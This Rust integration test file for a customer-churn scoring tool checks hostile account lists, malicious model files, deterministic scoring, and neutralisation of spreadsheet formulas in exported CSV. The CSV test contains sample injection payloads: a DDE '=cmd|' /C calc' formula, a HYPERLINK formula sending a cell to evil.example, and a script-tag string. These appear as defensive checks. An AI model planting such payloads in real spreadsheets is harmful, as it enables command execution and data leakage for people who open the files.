//! Hostile input and trust (issue 6), natively: the corpus of malformed and odd account
//! lists through the library and through the command line, malicious model files,
//! formula neutralisation in the exported CSV, and bit-identical, repeatable scores on
//! 100k simulated accounts. `tests/wasm.rs` runs the same corpus, models and digest in
//! headless Chromium, so the page's engine is held to the same expectations.
#![cfg(not(target_arch = "wasm32"))]

#[path = "fixtures/hostile/corpus.rs"]
mod corpus;
#[path = "reference/scores.rs"]
mod reference;

use std::path::{Path, PathBuf};
use std::process::Command;

use churn_audit::ingest::{parse_iso_date, read_table};
use churn_audit::model::Model;
use churn_audit::score::{audit, to_csv, CSV_COLUMNS};
use churn_audit::simulate::{simulate, SimConfig};
use serde_json::Value;
use sha2::{Digest, Sha256};

const AS_OF: &str = "2026-01-15";

fn as_of() -> i64 {
    parse_iso_date(AS_OF).unwrap()
}

fn hostile_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/hostile")
}

/// Files in the corpus directory that are not inputs.
const NOT_INPUTS: [&str; 7] = [
    "expected.json",
    "model.json",
    "determinism-model.json",
    "determinism.sha256",
    "make_hostile.py",
    "corpus.rs",
    "models",
];

fn committed_cases() -> Vec<corpus::Case> {
    let manifest = corpus::manifest();
    manifest["cases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            let name = c["file"].as_str().unwrap().to_string();
            let bytes = std::fs::read(hostile_dir().join(&name)).unwrap();
            corpus::Case {
                name,
                bytes,
                expect: c.clone(),
            }
        })
        .collect()
}

fn library_outcome(case: &corpus::Case, model: &Model) -> Result<Value, String> {
    audit(&case.bytes, &case.name, model, as_of())
        .map(|r| serde_json::to_value(&r).unwrap())
        .map_err(|e| e.to_string())
}

#[test]
fn the_corpus_is_complete() {
    let manifest = corpus::manifest();
    assert_eq!(manifest["as_of"], AS_OF);
    let listed: Vec<String> = manifest["cases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["file"].as_str().unwrap().to_string())
        .collect();
    let mut on_disk: Vec<String> = std::fs::read_dir(hostile_dir())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !NOT_INPUTS.contains(&n.as_str()))
        .collect();
    on_disk.sort();
    let mut sorted = listed.clone();
    sorted.sort();
    assert_eq!(on_disk, sorted, "every corpus file has one expectation");
    assert!(listed.len() >= 40, "{} committed files", listed.len());
    let errors = manifest["cases"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["outcome"] == "error")
        .count();
    assert!(errors >= 10 && listed.len() - errors >= 30);
}

#[test]
fn the_corpus_through_the_library() {
    let model = corpus::model();
    let mut failures = Vec::new();
    for case in committed_cases().iter().chain(&corpus::generated()) {
        let outcome = library_outcome(case, &model);
        if let Err(e) = corpus::check(&case.name, &case.expect, outcome) {
            failures.push(e);
        }
        if let Err(e) = corpus::check_values(&case.name, &case.expect, &case.bytes, &model, as_of())
        {
            failures.push(e);
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn the_corpus_through_the_cli() {
    let dir = std::env::temp_dir().join(format!("churn-audit-hostile-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let model = corpus::model();
    let model_path = hostile_dir().join("model.json");
    let mut failures = Vec::new();
    let generated = corpus::generated();
    // The 200k-row file is the library's business; through the CLI it would only
    // measure JSON printing.
    let cases = committed_cases()
        .into_iter()
        .chain(generated.into_iter().filter(|c| c.bytes.len() < 3 << 20));
    for case in cases {
        let path = dir.join(&case.name);
        std::fs::write(&path, &case.bytes).unwrap();
        let out = Command::new(env!("CARGO_BIN_EXE_churn-audit"))
            .args(["score", "--data", path.to_str().unwrap()])
            .args(["--model", model_path.to_str().unwrap()])
            .args(["--as-of", AS_OF, "--format", "json"])
            .output()
            .unwrap();
        let outcome = match out.status.code() {
            Some(0) => Ok(serde_json::from_slice::<Value>(&out.stdout).unwrap()),
            Some(1) => {
                let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
                if stderr.lines().count() != 1 || !out.stdout.is_empty() {
                    failures.push(format!("{}: not one line on stderr: {stderr}", case.name));
                }
                Err(stderr.trim_end().to_string())
            }
            other => Err(format!(
                "exit status {other:?}: {}",
                String::from_utf8_lossy(&out.stderr)
            )),
        };
        // The CLI prints exactly the library's result, byte for byte.
        if let Ok(result) = audit(&case.bytes, &case.name, &model, as_of()) {
            let mut text = serde_json::to_string(&result).unwrap();
            text.push('\n');
            if out.stdout != text.as_bytes() {
                failures.push(format!(
                    "{}: CLI output differs from the library's",
                    case.name
                ));
            }
        }
        // The command line reads workbooks, so a zip or OLE file is refused by the
        // workbook reader there ("cli_error"), by the text reader in the library.
        let mut expect = case.expect.clone();
        if let Some(e) = case.expect.get("cli_error") {
            expect["error"] = e.clone();
        }
        if let Err(e) = corpus::check(&case.name, &expect, outcome) {
            failures.push(format!("CLI: {e}"));
        }
    }
    std::fs::remove_dir_all(&dir).ok();
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn malicious_model_files_are_refused_with_a_clear_error() {
    let mut failures = Vec::new();
    for (what, text, needle) in corpus::hostile_models() {
        match Model::from_json(&text, "evil.json") {
            Ok(_) => failures.push(format!("{what}: accepted")),
            Err(e) => {
                let m = e.to_string();
                if !m.starts_with("model evil.json: ") || !m.contains(&needle) {
                    failures.push(format!("{what}: {m:?} does not contain {needle:?}"));
                }
                if m.len() > corpus::MAX_MESSAGE {
                    failures.push(format!("{what}: a message of {} bytes", m.len()));
                }
            }
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn the_cli_refuses_a_broken_model_in_one_line() {
    let dir = std::env::temp_dir().join(format!("churn-audit-evil-model-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let data = hostile_dir().join("num-us.csv");
    let cases: [(&str, &[u8], &str); 3] = [
        ("binary.json", b"\xff\xfe\x00junk", "not UTF-8"),
        (
            "nan.json",
            br#"{"format": "churn-audit-model", "intercept": NaN}"#,
            "not a valid churn-audit model file",
        ),
        ("empty.json", b"", "not a valid churn-audit model file"),
    ];
    for (name, bytes, needle) in cases {
        let path = dir.join(name);
        std::fs::write(&path, bytes).unwrap();
        let out = Command::new(env!("CARGO_BIN_EXE_churn-audit"))
            .args([
                "score",
                "--data",
                data.to_str().unwrap(),
                "--model",
                path.to_str().unwrap(),
            ])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{name}: {stderr}");
        assert_eq!(stderr.lines().count(), 1, "{name}: {stderr}");
        assert!(
            stderr.contains(needle) && stderr.contains(name),
            "{name}: {stderr}"
        );
    }
    std::fs::remove_dir_all(&dir).ok();
}

/// Cells a spreadsheet would run as a formula.
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn exported_csv_neutralises_formulas_and_keeps_numbers_numeric() {
    let model = corpus::model();
    for name in ["inject-names.csv", "num-us.csv", "num-eu.csv"] {
        let bytes = std::fs::read(hostile_dir().join(name)).unwrap();
        let result = audit(&bytes, name, &model, as_of()).unwrap();
        let csv = to_csv(&result);
        let table = read_table(csv.as_bytes(), "export.csv").unwrap();
        assert_eq!(table.headers, CSV_COLUMNS);
        assert_eq!(table.records.len(), result.rows.len());
        for (record, row) in table.records.iter().zip(&result.rows) {
            let f = &record.fields.to_vec();
            // Text columns: nothing starts like a formula, and taking off the one
            // neutralising quote gives back the value exactly.
            for (cell, original) in [(&f[0], &row.account_id), (&f[1], &row.account_name)] {
                assert!(!formula_like(cell), "{name}: {cell:?} left as a formula");
                let back = if formula_like(original) {
                    cell.strip_prefix('\'').unwrap_or(cell)
                } else {
                    cell
                };
                assert_eq!(back, original.as_str(), "{name}");
            }
            for cell in &f[3..] {
                if !cell.is_empty() && cell.parse::<f64>().is_err() {
                    assert!(!formula_like(cell), "{name}: {cell:?}");
                }
            }
            // Numeric columns: plain numbers with the exact bits, negative ones unquoted.
            let p: f64 = f[2].parse().unwrap();
            assert_eq!(p.to_bits(), row.churn_probability.to_bits(), "{name}");
            match row.revenue_at_risk {
                Some(v) => {
                    let got: f64 = f[4]
                        .parse()
                        .unwrap_or_else(|_| panic!("{name}: {:?}", f[4]));
                    assert_eq!(got.to_bits(), v.to_bits(), "{name}");
                }
                None => assert_eq!(f[4], "", "{name}"),
            }
        }
        if name == "num-us.csv" {
            // (1,200) is a negative contract value: its revenue at risk is a negative
            // number and must stay one.
            assert!(
                csv.lines()
                    .any(|l| l.starts_with("U3,") && l.contains(",-")),
                "{csv}"
            );
        }
        if name == "inject-names.csv" {
            assert!(csv.contains("\n'=cmd|' /C calc'!A0,Formula id,"), "{csv}");
            assert!(
                csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","),
                "{csv}"
            );
            assert!(csv.contains(",'@SUM(A1:A9),"), "{csv}");
            assert!(csv.contains(",'=1+1,"), "{csv}");
            assert!(csv.contains(",<script>alert(1)</script>,"), "{csv}");
        }
    }
}

fn digest_of(result: &churn_audit::score::AuditResult) -> String {
    let mut h = Sha256::new();
    for row in &result.rows {
        h.update(row.churn_probability.to_bits().to_le_bytes());
        h.update(row.log_odds.to_bits().to_le_bytes());
        h.update(
            row.revenue_at_risk
                .unwrap_or(f64::NAN)
                .to_bits()
                .to_le_bytes(),
        );
    }
    hex(&h.finalize())
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn hundred_thousand_simulated_accounts_score_bit_identically_and_repeatably() {
    let (csv_digest, scores_digest) = corpus::determinism_digests();
    let csv = simulate(&SimConfig {
        accounts: corpus::DETERMINISM_ACCOUNTS,
        seed: corpus::DETERMINISM_SEED,
        as_of: as_of(),
    });
    let model = Model::from_json(corpus::DETERMINISM_MODEL_JSON, "determinism-model.json").unwrap();
    let csv_now = hex(&Sha256::digest(csv.as_bytes()));
    let first = audit(csv.as_bytes(), "simulated.csv", &model, as_of()).unwrap();
    let second = audit(csv.as_bytes(), "simulated.csv", &model, as_of()).unwrap();
    assert_eq!(first, second, "two runs in one process differ");
    assert_eq!(first.rows.len(), corpus::DETERMINISM_ACCOUNTS);
    let scores_now = digest_of(&first);
    if std::env::var_os("CHURN_AUDIT_BLESS").is_some() {
        // Re-pins the digests after an intended change of the simulator or the
        // scoring rules; the wasm test then checks the browser gives the same bits.
        std::fs::write(
            hostile_dir().join("determinism.sha256"),
            format!("simulated-csv {csv_now}\nscores {scores_now}\n"),
        )
        .unwrap();
        return;
    }
    assert_eq!(
        csv_now, csv_digest,
        "the simulator's output changed: if intended, re-pin with CHURN_AUDIT_BLESS=1 cargo test --release --test hostile hundred_thousand"
    );
    assert_eq!(scores_now, scores_digest, "probabilities changed bits");

    let dir = std::env::temp_dir().join(format!("churn-audit-determinism-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let data = dir.join("simulated.csv");
    let model_path = dir.join("determinism-model.json");
    std::fs::write(&data, &csv).unwrap();
    std::fs::write(&model_path, corpus::DETERMINISM_MODEL_JSON).unwrap();

    // The command line, twice: identical bytes, and the same bits as the library.
    let run = || {
        let out = Command::new(env!("CARGO_BIN_EXE_churn-audit"))
            .args(["score", "--data", data.to_str().unwrap()])
            .args(["--model", model_path.to_str().unwrap(), "--as-of", AS_OF])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        out.stdout
    };
    let (a, b) = (run(), run());
    assert!(a == b, "two CLI runs differ");
    let table = read_table(&a, "scored.csv").unwrap();
    assert_eq!(table.records.len(), first.rows.len());
    for (record, row) in table.records.iter().zip(&first.rows) {
        let p: f64 = record.fields.get(2).unwrap().parse().unwrap();
        assert_eq!(
            p.to_bits(),
            row.churn_probability.to_bits(),
            "line {}",
            row.line
        );
    }

    // And the numbers are right: an independent Python scorer agrees to 1e-12.
    let reference = reference::reference_scores(&model_path, &data, AS_OF);
    let mut n = 0;
    for ((id, p), row) in reference.iter().zip(&first.rows) {
        assert_eq!(id, &row.account_id);
        assert!(
            (p - row.churn_probability).abs() <= 1e-12,
            "{id}: {p} vs {}",
            row.churn_probability
        );
        n += 1;
    }
    assert_eq!(n, first.rows.len());
    std::fs::remove_dir_all(&dir).ok();
}
